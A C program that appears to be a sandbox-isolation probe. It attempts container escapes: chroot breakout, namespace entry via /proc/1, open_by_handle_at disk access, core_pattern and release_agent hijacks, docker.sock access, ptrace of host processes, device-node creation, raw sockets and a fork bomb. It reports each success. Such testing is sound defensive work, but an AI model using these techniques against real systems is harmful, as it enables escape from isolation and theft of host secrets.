/* Tries to leave where it runs: hostile MODE WORD...
 *
 *   mount SECRET-FILE            file systems, namespaces, files of the host by name and by handle
 *   ptrace PID SECRET            a process of the host, and every other one in sight
 *   device MAJOR MINOR           the disk of the host, its memory, its ports
 *   network PORT ADDRESS...      interfaces, raw packets, connections to the host
 *   fork                         does nothing but fork, for ever
 *
 * One line for each attempt that worked: "WORKED host NAME" for what no guest may do, "WORKED kernel
 * NAME" for what is harmless to a guest that has a kernel of its own. Then "end". */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <sys/un.h>
#include <unistd.h>

static int tried;

static void attempt(const char *scope, const char *name, int worked) {
  tried++;
  if (worked) printf("WORKED %s %s\n", scope, name);
  fflush(stdout);
}

static int opens(const char *path, int flags) {
  int fd = open(path, flags | O_CLOEXEC);
  if (fd >= 0) close(fd);
  return fd >= 0;
}

static int reads(const char *path) {
  char byte;
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  int done = read(fd, &byte, 1) == 1;
  close(fd);
  return done;
}

static int writes(const char *path, const char *text) {
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  int done = write(fd, text, strlen(text)) > 0;
  close(fd);
  return done;
}

/* In a child, so that what worked changes nothing for the attempts that follow. */
static int alone(int (*act)(const char *), const char *word) {
  fflush(stdout);
  pid_t child = fork();
  if (child < 0) return 0;
  if (child == 0) _exit(act(word) ? 42 : 0);
  int status = 0;
  while (waitpid(child, &status, 0) < 0 && errno == EINTR) {}
  return WIFEXITED(status) && WEXITSTATUS(status) == 42;
}

static int enters(const char *path) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  return fd >= 0 && setns(fd, 0) == 0;
}

static int new_user(const char *unused) { (void)unused; return unshare(CLONE_NEWUSER) == 0; }
static int new_mounts(const char *unused) { (void)unused; return unshare(CLONE_NEWNS) == 0; }

static int root_of_first(const char *secret) {
  return chroot("/proc/1/root") == 0 && chdir("/") == 0 && opens(secret, O_RDONLY);
}

static int out_of_chroot(const char *secret) {
  mkdir("jail", 0700);
  int here = open(".", O_RDONLY | O_CLOEXEC);
  if (here < 0 || chroot("jail") < 0 || fchdir(here) < 0) return 0;
  for (int i = 0; i < 64; i++) if (chdir("..") < 0) return 0;
  return chroot(".") == 0 && opens(secret, O_RDONLY);
}

/* The root of the disk below an overlay, by the handle that every ext4 gives it. */
static int by_handle(const char *secret) {
  struct { struct file_handle head; unsigned char data[8]; } handle = {{8, 1}, {2, 0, 0, 0, 0, 0, 0, 0}};
  int mount_fd = open("/etc", O_RDONLY | O_CLOEXEC);
  int fd = mount_fd < 0 ? -1 : open_by_handle_at(mount_fd, &handle.head, O_RDONLY | O_DIRECTORY);
  return fd >= 0 && faccessat(fd, secret + 1, F_OK, 0) == 0;
}

static void mounts(const char *secret) {
  attempt("host", "file of the host", opens(secret, O_RDONLY));
  attempt("host", "file of the host, to write", opens(secret, O_WRONLY));
  mkdir("m", 0700);
  attempt("kernel", "mount of memory", mount("evil", "m", "tmpfs", 0, "size=64k") == 0);
  attempt("kernel", "mount of proc", mount("evil", "m", "proc", 0, NULL) == 0);
  attempt("kernel", "mount of sysfs", mount("evil", "m", "sysfs", 0, NULL) == 0);
  attempt("kernel", "mount of a cgroup", mount("evil", "m", "cgroup", 0, "memory") == 0);
  attempt("kernel", "mount of a cgroup 2", mount("evil", "m", "cgroup2", 0, NULL) == 0);
  attempt("kernel", "mount of devices", mount("evil", "m", "devtmpfs", 0, NULL) == 0);
  attempt("kernel", "bind of the root", mount("/", "m", NULL, MS_BIND | MS_REC, NULL) == 0);
  attempt("kernel", "system writable", mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL) == 0);
  attempt("kernel", "end of a mount", umount2("/proc", MNT_DETACH) == 0 && !opens("/proc/self/stat", O_RDONLY));
  attempt("kernel", "users of its own", alone(new_user, ""));
  attempt("kernel", "mounts of its own", alone(new_mounts, ""));
  attempt("host", "mounts of process 1, with the host's file", alone(enters, "/proc/1/ns/mnt") && opens(secret, O_RDONLY));
  attempt("host", "root of process 1", alone(root_of_first, secret));
  attempt("host", "way out of a chroot", alone(out_of_chroot, secret));
  attempt("host", "disk by a file's handle", alone(by_handle, secret));
  attempt("kernel", "core_pattern", writes("/proc/sys/kernel/core_pattern", "|/tmp/evil"));
  attempt("kernel", "release_agent", writes("/sys/fs/cgroup/memory/release_agent", "/tmp/evil"));
  attempt("kernel", "modprobe", writes("/proc/sys/kernel/modprobe", "/tmp/evil"));
  attempt("kernel", "uevent_helper", writes("/sys/kernel/uevent_helper", "/tmp/evil"));
  int socket_fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  struct sockaddr_un engine = {.sun_family = AF_UNIX, .sun_path = "/var/run/docker.sock"};
  attempt("host", "the engine's socket", connect(socket_fd, (struct sockaddr *)&engine, sizeof engine) == 0);
}

/* Whether a process has the host's secret among its variables. */
static int holds(const char *pid, const char *secret) {
  char path[64], text[65536];
  snprintf(path, sizeof path, "/proc/%s/environ", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  ssize_t size = read(fd, text, sizeof text);
  close(fd);
  return size > 0 && memmem(text, (size_t)size, secret, strlen(secret)) != NULL;
}

static void traces(pid_t pid, const char *secret) {
  char path[64], byte;
  attempt("kernel", "ptrace", ptrace(PTRACE_ATTACH, pid, NULL, NULL) == 0);
  attempt("kernel", "ptrace by seizing", ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0);
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  attempt("kernel", "memory of a process", opens(path, O_RDWR));
  struct iovec here = {&byte, 1}, there = {(void *)0x400000, 1};
  attempt("kernel", "reading of a process", process_vm_readv(pid, &here, 1, &there, 1, 0) == 1);
  attempt("kernel", "signal", kill(pid, 0) == 0);
  attempt("kernel", "stop signal", kill(pid, SIGSTOP) == 0);
  attempt("kernel", "pidfd", syscall(SYS_pidfd_open, pid, 0) >= 0);
  attempt("kernel", "priority", syscall(SYS_setpriority, 0, pid, 19) == 0);
  DIR *all = opendir("/proc");
  int seen = 0;
  for (struct dirent *one; all != NULL && (one = readdir(all)) != NULL;) {
    if (one->d_name[0] >= '1' && one->d_name[0] <= '9') seen += holds(one->d_name, secret);
  }
  attempt("host", "sight of the host's process", seen > 0);
}

static int made(const char *name, mode_t kind, unsigned major_, unsigned minor_, int flags) {
  unlink(name);
  return mknod(name, kind | 0600, makedev(major_, minor_)) == 0 && opens(name, flags);
}

static void devices(unsigned major_, unsigned minor_) {
  attempt("kernel", "disk", made("disk", S_IFBLK, major_, minor_, O_RDONLY));
  attempt("kernel", "disk, to write", made("disk", S_IFBLK, major_, minor_, O_WRONLY));
  attempt("kernel", "memory by a device", made("mem", S_IFCHR, 1, 1, O_RDWR));
  attempt("kernel", "kernel's messages", made("kmsg", S_IFCHR, 1, 11, O_RDWR));
  attempt("kernel", "ports by a device", made("port", S_IFCHR, 1, 4, O_RDWR));
  attempt("kernel", "loop devices", made("loop", S_IFCHR, 10, 237, O_RDWR));
  attempt("kernel", "fuse", made("fuse", S_IFCHR, 10, 229, O_RDWR));
  attempt("kernel", "kvm", made("kvm", S_IFCHR, 10, 232, O_RDWR));
  attempt("kernel", "/dev/mem", opens("/dev/mem", O_RDWR));
  attempt("kernel", "/dev/kmsg", opens("/dev/kmsg", O_WRONLY));
  attempt("kernel", "/proc/kcore", reads("/proc/kcore"));
  attempt("kernel", "drop_caches", writes("/proc/sys/vm/drop_caches", "1"));
#ifdef SYS_iopl
  attempt("kernel", "iopl", syscall(SYS_iopl, 3) == 0);
#endif
  attempt("kernel", "kernel module", syscall(SYS_init_module, "", 0, "") == 0);
}

static int connects(const char *address, int port) {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
  inet_pton(AF_INET, address, &to.sin_addr);
  int worked = connect(fd, (struct sockaddr *)&to, sizeof to) == 0;
  if (!worked && errno == EINPROGRESS) {
    struct pollfd wait = {.fd = fd, .events = POLLOUT};
    int error = 1;
    socklen_t size = sizeof error;
    worked = poll(&wait, 1, 1500) == 1 && getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &size) == 0 && error == 0;
  }
  close(fd);
  return worked;
}

static int foreign_interfaces(void) {
  FILE *list = fopen("/proc/net/dev", "r");
  char line[512];
  int found = 0;
  while (list != NULL && fgets(line, sizeof line, list) != NULL) {
    if (strchr(line, ':') != NULL && strstr(line, "lo:") == NULL) found++;
  }
  if (list != NULL) fclose(list);
  return found;
}

static int service;

static int through_first(const char *address) {
  return enters("/proc/1/ns/net") && (connects(address, service) || connects("127.0.0.1", service));
}

static void networks(int port, char **addresses) {
  service = port;
  attempt("kernel", "interfaces", foreign_interfaces() > 0);
  attempt("kernel", "packets of an interface", socket(AF_PACKET, SOCK_RAW, htons(3)) >= 0);
  attempt("kernel", "raw packets", socket(AF_INET, SOCK_RAW, 1) >= 0);
  attempt("host", "network of process 1, with the host's service", alone(through_first, *addresses));
  int tun = open("/dev/net/tun", O_RDWR | O_CLOEXEC);
  struct ifreq evil = {.ifr_name = "evil0"};
  evil.ifr_flags = 0x1002; /* a tap without headers */
  attempt("kernel", "interface of its own", tun >= 0 && ioctl(tun, 0x400454ca, &evil) == 0);
  for (; *addresses != NULL; addresses++) {
    char name[128];
    snprintf(name, sizeof name, "connection to %s", *addresses);
    attempt("host", name, connects(*addresses, port));
  }
}

int main(int count, char **words) {
  if (count == 2 && strcmp(words[1], "fork") == 0) for (;;) fork();
  if (count >= 3 && strcmp(words[1], "mount") == 0) mounts(words[2]);
  else if (count >= 4 && strcmp(words[1], "ptrace") == 0) traces(atoi(words[2]), words[3]);
  else if (count >= 4 && strcmp(words[1], "device") == 0) devices((unsigned)atoi(words[2]), (unsigned)atoi(words[3]));
  else if (count >= 4 && strcmp(words[1], "network") == 0) networks(atoi(words[2]), words + 3);
  else return 2;
  printf("tried %d\nend\n", tried);
  return 0;
}
